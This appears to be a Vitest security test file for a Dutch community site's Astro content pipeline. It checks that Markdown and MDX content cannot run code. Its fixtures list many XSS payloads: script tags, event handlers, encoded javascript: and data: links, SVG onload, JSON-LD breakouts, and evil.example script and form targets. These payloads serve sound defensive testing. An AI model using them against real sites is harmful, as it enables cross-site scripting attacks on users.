/**
 * Content cannot run code (issue 8, point 1). One test per rule, each with a malicious fixture:
 *
 * - in a .md body (what the CMS writes) every trick is neutralised: raw HTML is shown as text,
 *   dangerous links become plain text, MDX syntax is literal text;
 * - in an .mdx file under content/ MDX may only use the whitelisted components from
 *   src/user-components/: import/export, {expressions}, other elements (<script>, <iframe>,
 *   <style>, <object>, <svg>, …), on…= attributes and javascript: addresses fail the validation
 *   with the file and line, and the Markdown pipeline refuses to compile such a file at all;
 * - a real `astro build` of the fixture site plus malicious .md files publishes none of it in an
 *   executable form (we count the dangerous constructs on the built pages).
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { htmlToHast, mdxToJs } from 'satteri';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { validateContent, validateEntry } from '../../src/lib/content-validation';
import { isDangerousUrl, markdownPipeline, markdownProcessor } from '../../src/lib/markdown/index';
import { checkMdx } from '../../src/lib/markdown/mdx-policy';
import { MarkdownContentError } from '../../src/lib/markdown/location';
import { isolatedBuild, projectRoot } from '../isolated-build';

const FIXTURES = path.join(projectRoot, 'tests/fixtures/content');
const ARTICLE_FM = '---\ntitel: Test\nsamenvatting: Een test.\nrubriek: bewegen\nauteurs: [ria-van-dijk]\npublicatiedatum: 2026-01-05\n---\n';

type Renderer = Awaited<ReturnType<ReturnType<typeof markdownProcessor>['createRenderer']>>;
let renderer: Renderer;
beforeAll(async () => {
  renderer = await markdownProcessor({ site: 'https://vief-mvs.nl' }).createRenderer({ syntaxHighlight: false });
});
const html = async (md: string) => (await renderer.render(md, { fileURL: pathToFileURL(path.join(projectRoot, 'content/artikelen/test.md')) })).code;

interface HNode {
  type: string;
  tagName?: string;
  properties?: Record<string, unknown>;
  children?: HNode[];
  value?: string;
}
const URL_PROPS = new Set(['href', 'src', 'action', 'formAction', 'data', 'srcSet', 'poster', 'xLinkHref', 'background', 'cite', 'ping', 'codeBase', 'manifest']);
const ACTIVE = /^(script|iframe|frame|frameset|object|embed|applet|style|math|base|form|portal)$/;

/**
 * Everything in a piece of HTML that runs or loads something, read with a real HTML parser
 * (satteri's htmlToHast), so text and attribute values that merely *look* like tags do not count:
 * active elements (with their src/type/inline code), on…= handlers, and script/data addresses.
 */
function activeParts(source: string, fragment = true): string[] {
  const found: string[] = [];
  const walk = (node: HNode) => {
    if (node.type === 'element' && node.tagName) {
      const props = node.properties ?? {};
      const name = node.tagName.toLowerCase();
      if (ACTIVE.test(name) || (name === 'meta' && props.httpEquiv) || (name === 'link' && /import/i.test(String(props.rel)))) {
        const text = (node.children ?? []).map((c) => c.value ?? '').join('');
        const attrs = Object.entries(props).map(([k, v]) => `${k}=${Array.isArray(v) ? v.join(' ') : String(v)}`).sort().join(' ');
        found.push(`<${name} ${attrs}>${props.type === 'application/ld+json' ? '(json-ld)' : text.slice(0, 80)}`);
      }
      for (const [key, value] of Object.entries(props)) {
        if (/^on[A-Z]/.test(key)) found.push(`<${name} ${key}=${String(value)}>`);
        if (URL_PROPS.has(key) && isDangerousUrl(Array.isArray(value) ? value.join(' ') : String(value))) found.push(`<${name} ${key}=${String(value)}>`);
      }
      for (const child of node.children ?? []) walk(child);
      return;
    }
    for (const child of node.children ?? []) walk(child);
  };
  walk(htmlToHast(source, { fragment }) as unknown as HNode);
  return found;
}
const executable = (out: string) => activeParts(out);

/** The .md rules: [name, Markdown, text that must still be there (neutralised, not dropped)]. */
const MD_CASES: Array<[string, string, string]> = [
  ['<script>', 'Hallo <script>alert("XSS")</script> daar', '&lt;script&gt;alert'],
  ['<script> as a block', '<script src="https://evil.example/x.js"></script>', '&lt;script src='],
  ['<iframe>', '<iframe src="https://evil.example" width=1></iframe>', '&lt;iframe'],
  ['onerror=', 'Kijk <img src=x onerror=alert(1)> hier', 'onerror=alert(1)'],
  ['on…= on any element', '<div onmouseover="alert(1)">beweeg</div>', 'onmouseover'],
  ['<style>', '<style>body{background:url("javascript:alert(1)")}</style>', '&lt;style&gt;'],
  ['<object>', '<object data="https://evil.example/x.swf"></object>', '&lt;object'],
  ['<embed>', '<embed src="https://evil.example/x.swf">', '&lt;embed'],
  ['SVG with script', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', '&lt;svg'],
  ['SVG onload', '<svg/onload=alert(1)>', '&lt;svg/onload'],
  ['raw <a href=javascript:>', '<a href="javascript:alert(1)">klik</a>', '&lt;a href='],
  ['HTML comment hiding a script', '<!-- <script>alert(1)</script> -->', '&lt;!--'],
  ['<meta http-equiv=refresh>', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '&lt;meta'],
  ['<base href>', '<base href="https://evil.example/">', '&lt;base'],
  ['<form action>', '<form action="https://evil.example"><input name=p></form>', '&lt;form'],
  ['javascript: link', '[klik](javascript:alert(1))', 'klik'],
  ['JavaScript: with capitals and spaces', '[klik]( JaVaScRiPt:alert(1) )', 'klik'],
  ['javascript&#58; (encoded colon)', '[klik](javascript&#58;alert(1))', 'klik'],
  ['&#106;avascript: (encoded letter)', '[klik](&#106;avascript:alert(1))', 'klik'],
  ['java&#9;script: (encoded tab)', '[klik](<java&#9;script:alert(1)>)', 'klik'],
  ['java%0Ascript:', '[klik](java%0Ascript:alert(1))', 'klik'],
  ['vbscript: link', '[klik](vbscript:msgbox(1))', 'klik'],
  ['data: link', '[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', 'klik'],
  ['data: image', '![Een plaatje](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)', 'Een plaatje'],
  ['javascript: image', '![Foto](javascript:alert(1))', 'Foto'],
  ['javascript: reference link', '[klik][x]\n\n[x]: javascript:alert(1)', 'klik'],
  ['javascript: autolink', '<javascript:alert(1)>', 'javascript:alert(1)'],
  ['import/export', 'import fs from "node:fs"\n\nexport const a = fs.readFileSync("/etc/passwd")', 'import fs from'],
  ['{expression}', 'Twee is {1 + 1} en {process.exit(1)}', '{process.exit(1)}'],
  ['unknown component', '<Onbekend prop={alert(1)} />', '&lt;Onbekend'],
  ['block title breaking out of its attribute', ':::tipkader{titel="\\"><script>alert(1)</script>"}\nTekst\n:::', 'Tekst'],
  ['citaat speaker with HTML', ':::citaat{wie="<img src=x onerror=alert(1)>"}\nMooi.\n:::', 'onerror=alert(1)'],
  ['foto alt with HTML', '::foto{src="../media/omslag.jpg" alt="\\"><script>alert(1)</script>"}', '__ASTRO_IMAGE_'],
];

describe('.md bodies (what the CMS writes): every trick is shown as text, never run', () => {
  it('the detector itself sees every raw HTML payload (so a pass below means neutralised, not missed)', () => {
    const raw = MD_CASES.filter(([name]) => /^<|on…=|onerror=|SVG|raw <a/.test(name)).map(([name, md]) => [name, md] as const);
    expect(raw.length).toBeGreaterThan(10);
    for (const [name, md] of raw) expect(activeParts(md).length, name).toBeGreaterThan(0);
    expect(activeParts('<a href="java&#9;script:alert(1)">x</a>')).toHaveLength(1);
  });

  it.each(MD_CASES)('%s', async (_name, md, kept) => {
    const out = await html(md);
    expect(executable(out), out).toEqual([]);
    expect(out).toContain(kept);
  });

  it.each([
    ['a video block with a javascript: address', '::video{url="javascript:alert(1)" titel="x"}', /video-adres .* niet toegestaan/],
    ['a foto block with a data: address', '::foto{src="data:image/svg+xml,<svg onload=alert(1)>" alt="x"}', /komt van een andere website/],
    ['an unknown block such as ::iframe', '::iframe{src="https://evil.example"}', /onbekend blok "::iframe"/],
    ['an unknown block such as :::script', ':::script\nalert(1)\n:::', /onbekend blok ":::script"/],
  ])('refuses %s with the file and line', async (_name, md, message) => {
    await expect(html(`Eerste regel.\n\n${md}`)).rejects.toThrow(/content\/artikelen\/test\.md, regel 3: /);
    await expect(html(md)).rejects.toThrow(message);
  });
});

describe('.mdx files in content/: only whitelisted components, no code (validation names file and line)', () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'vief-mdx-'));
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

  /** Validate an .mdx article with this body (after 7 lines of frontmatter); returns "line: problem" strings. */
  function problemsOf(body: string): string[] {
    const file = path.join(dir, 'content', 'artikelen', 'stuk.mdx');
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, ARTICLE_FM + body);
    const { problems } = validateEntry('artikelen', 'content/artikelen/stuk.mdx', ARTICLE_FM + body, file);
    for (const p of problems) expect(p.file).toBe('content/artikelen/stuk.mdx');
    return problems.map((p) => `${p.field}: ${p.message}`);
  }

  it.each([
    ['import', 'Tekst.\n\nimport fs from "node:fs"\n', 'tekst, regel 10', /mag alleen onderdelen importeren uit src\/user-components/],
    ['import of a file outside user-components', 'import Kop from "../../src/components/Kop.astro"\n\nTekst.\n', 'tekst, regel 8', /mag alleen onderdelen importeren/],
    ['export', 'Tekst.\n\nexport const geheim = process.env\n', 'tekst, regel 10', /"export" is code/],
    ['export default (replacing the layout)', 'export default function Layout() { return null }\n\nTekst.\n', 'tekst, regel 8', /"export" is code/],
    ['{expression} in text', 'Twee is {1 + 1}.\n', 'tekst, regel 8', /\{1 \+ 1\} is code/],
    ['{expression} on its own line', 'Tekst.\n\n{globalThis.process.exit(1)}\n', 'tekst, regel 10', /is code/],
    ['<script>', 'Tekst.\n\n<script>alert(1)</script>\n', 'tekst, regel 10', /HTML-code <script>/],
    ['<iframe> (videos go through ::video)', '<iframe src="https://www.youtube.com/embed/x" />\n', 'tekst, regel 8', /HTML-code <iframe>/],
    ['<img onerror=…>', 'Kijk <img src="x" onerror="alert(1)" /> hier.\n', 'tekst, regel 8', /HTML-code <img>/],
    ['<style>', '<style>{`body{display:none}`}</style>\n', 'tekst, regel 8', /HTML-code <style>/],
    ['<object>', '<object data="x.swf" />\n', 'tekst, regel 8', /HTML-code <object>/],
    ['<embed>', '<embed src="x.swf" />\n', 'tekst, regel 8', /HTML-code <embed>/],
    ['SVG with script', '<svg><script>alert(1)</script></svg>\n', 'tekst, regel 8', /HTML-code <svg>/],
    ['<a href="javascript:…">', '<a href="javascript:alert(1)">klik</a>\n', 'tekst, regel 8', /HTML-code <a>/],
    ['unknown component', 'Tekst.\n\n<Onbekend />\n', 'tekst, regel 10', /onbekend onderdeel <Onbekend>/],
    ['fragment', '<>x</>\n', 'tekst, regel 8', /<>…<\/> is code/],
    ['a lone { or <3 (not valid MDX)', 'Ik <3 de buurt.\n', 'tekst, regel 8', /geen geldige MDX/],
  ])('%s', (_name, body, field, message) => {
    const problems = problemsOf(body);
    expect(problems.some((p) => p.startsWith(`${field}: `) && message.test(p)), problems.join('\n')).toBe(true);
  });

  it('lists every violation in the file at once', () => {
    const problems = problemsOf('import x from "y"\nexport const a = 1\n\n{a}\n\n<script>x</script>\n');
    expect(problems.map((p) => p.split(':')[0])).toEqual(['tekst, regel 8', 'tekst, regel 9', 'tekst, regel 11', 'tekst, regel 13']);
  });

  it('allows an imported component from src/user-components, with plain attributes only', () => {
    const components = path.join(dir, 'user-components');
    fs.mkdirSync(components, { recursive: true });
    fs.writeFileSync(path.join(components, 'Kaart.astro'), '<div><slot /></div>');
    const file = path.join(dir, 'content', 'artikelen', 'kaart.mdx');
    fs.mkdirSync(path.dirname(file), { recursive: true });
    const imp = `import Kaart from '${path.relative(path.dirname(file), path.join(components, 'Kaart.astro'))}'`;
    const url = pathToFileURL(file);
    expect(checkMdx(`${imp}\n\n<Kaart titel="Buurt">Tekst</Kaart>\n`, url, components)).toEqual([]);
    const bad = checkMdx(`${imp}\n\n<Kaart onClick="alert(1)" titel={x} href="javascript:alert(1)" {...p} />\n`, url, components).map((v) => v.problem);
    expect(bad).toEqual([
      expect.stringMatching(/"onClick" .* is code/),
      expect.stringMatching(/titel=\{…\} .* is code/),
      expect.stringMatching(/adres "javascript:alert\(1\)" .* niet toegestaan/),
      expect.stringMatching(/\{…\} bij <Kaart> is code/),
    ]);
    // A component that is not imported, or imported from elsewhere, is refused.
    expect(checkMdx('<Kaart />\n', url, components)[0].problem).toMatch(/onbekend onderdeel/);
  });

  it('the Markdown pipeline refuses to compile such an .mdx content file (also in astro dev)', () => {
    const file = path.join(projectRoot, 'content', 'artikelen', 'bestaat-niet.mdx');
    const { features, mdastPlugins, hastPlugins } = markdownPipeline();
    const compile = (src: string) => mdxToJs(src, { features, mdastPlugins, hastPlugins, fileURL: pathToFileURL(file) });
    expect(() => compile('Tekst.\n\n{process.exit(1)}\n')).toThrow(MarkdownContentError);
    expect(() => compile('Tekst.\n\n{process.exit(1)}\n')).toThrow(/content\/artikelen\/bestaat-niet\.mdx, regel 3: \{process\.exit\(1\)\} is code/);
    expect(() => compile('Gewone tekst met **vet**.\n')).not.toThrow();
    // Developer-written MDX outside content/ is not held to the content rules.
    expect(() => mdxToJs('{1 + 1}', { features, mdastPlugins, hastPlugins, fileURL: pathToFileURL(path.join(projectRoot, 'src/pages/x.mdx')) })).not.toThrow();
  });
});

describe('a real build of malicious .md content publishes nothing executable', () => {
  let work = '';
  let dist = '';
  let log = '';
  const payloads = MD_CASES.map(([, md]) => md);
  beforeAll(async () => {
    fs.mkdirSync(path.join(projectRoot, 'tmp'), { recursive: true });
    work = fs.mkdtempSync(path.join(projectRoot, 'tmp', 'malicious-'));
    const content = path.join(work, 'content');
    fs.cpSync(FIXTURES, content, { recursive: true });
    // An article with every payload, and an activity and page whose fields try to break out of HTML and JSON-LD.
    fs.writeFileSync(
      path.join(content, 'artikelen', 'kwaadaardig.md'),
      `${ARTICLE_FM.replace('titel: Test', 'titel: "Kwaad <script>alert(\'XSS-titel\')</script>"').replace('samenvatting: Een test.', 'samenvatting: \'<img src=x onerror=alert("XSS-samenvatting")>\'')}\n${payloads.join('\n\n')}\n`,
    );
    const agenda = fs.readFileSync(path.join(content, 'agenda', 'koffieochtend.md'), 'utf8');
    fs.writeFileSync(path.join(content, 'agenda', 'kwaadaardige-koffie.md'), agenda.replace('titel: Koffieochtend', 'titel: "</script><script>alert(\'XSS-jsonld\')</script>"').replace('Gezellig samen koffie drinken.', payloads.join('\n\n')));
    const pagina = fs.readFileSync(path.join(content, 'paginas', 'over.md'), 'utf8');
    fs.writeFileSync(path.join(content, 'paginas', 'kwaadaardig.md'), pagina.replace('titel: Over ons', 'titel: "<svg onload=alert(\'XSS-pagina\')>"').replace('Wij zijn de redactie.', payloads.join('\n\n')));
    fs.copyFileSync(path.join(projectRoot, 'content/site.json'), path.join(content, 'site.json'));
    expect(validateContent(work, 'content').problems).toEqual([]);
    const result = await isolatedBuild(work, 'build', content, { BUILD_NOW: '2026-12-01T12:00:00Z' });
    log = result.log;
    expect(result.ok, log.slice(-4000)).toBe(true);
    dist = result.outDir;
    console.log(`malicious build: ${result.seconds.toFixed(1)} s`);
  }, 300_000);
  afterAll(() => {
    if (work) fs.rmSync(work, { recursive: true, force: true });
  });

  const read = (p: string) => fs.readFileSync(path.join(dist, p), 'utf8');
  /** The active parts of a page that a clean page of the same type does not have (the layout has its own scripts). */
  function extra(bad: string, clean: string): string[] {
    const allowed = activeParts(read(clean), false);
    return activeParts(read(bad), false).filter((part) => {
      const i = allowed.indexOf(part);
      if (i === -1) return true;
      allowed.splice(i, 1);
      return false;
    });
  }

  it.each([
    ['artikel', 'artikelen/kwaadaardig/index.html', 'artikelen/wandelen-in-de-polder/index.html'],
    ['activiteit (with JSON-LD)', 'agenda/kwaadaardige-koffie/index.html', 'agenda/koffieochtend/index.html'],
    ['pagina', 'kwaadaardig/index.html', 'over/index.html'],
  ])('the %s page has no more scripts, frames, handlers or script addresses than a clean one', (_name, bad, clean) => {
    const page = read(bad);
    expect(extra(bad, clean)).toEqual([]);
    expect(activeParts(page, false).length).toBeGreaterThan(0); // the check does see the layout's own scripts
    // The payloads are there, as text.
    expect(page).toContain('&lt;script&gt;alert');
    expect(page).toContain('&lt;iframe');
  });

  it('the titles and summaries are escaped everywhere they appear (page, lists, feed)', () => {
    for (const file of ['artikelen/kwaadaardig/index.html', 'index.html', 'rubriek/bewegen/index.html', 'rss.xml', 'agenda/index.html', 'kwaadaardig/index.html']) {
      expect(activeParts(read(file), false).filter((part) => part.includes('XSS')), file).toEqual([]);
    }
    expect(read('artikelen/kwaadaardig/index.html')).toContain('Kwaad &lt;script&gt;');
  });

  it('the activity title cannot break out of its JSON-LD script', () => {
    const page = read('agenda/kwaadaardige-koffie/index.html');
    const blocks = [...page.matchAll(/<script[^>]*type="application\/ld\+json"[^>]*>([\s\S]*?)<\/script>/g)].map((m) => m[1]);
    expect(blocks.length).toBeGreaterThan(0);
    const data = blocks.map((b) => JSON.parse(b));
    expect(JSON.stringify(data)).toContain("</script><script>alert('XSS-jsonld')</script>");
    expect(activeParts(page, false).filter((part) => part.includes('XSS'))).toEqual([]);
  });

  it('the build log reports no rendering errors (no body was silently left out)', () => {
    expect(log).not.toMatch(/Error rendering|glob-loader/i);
  });
});
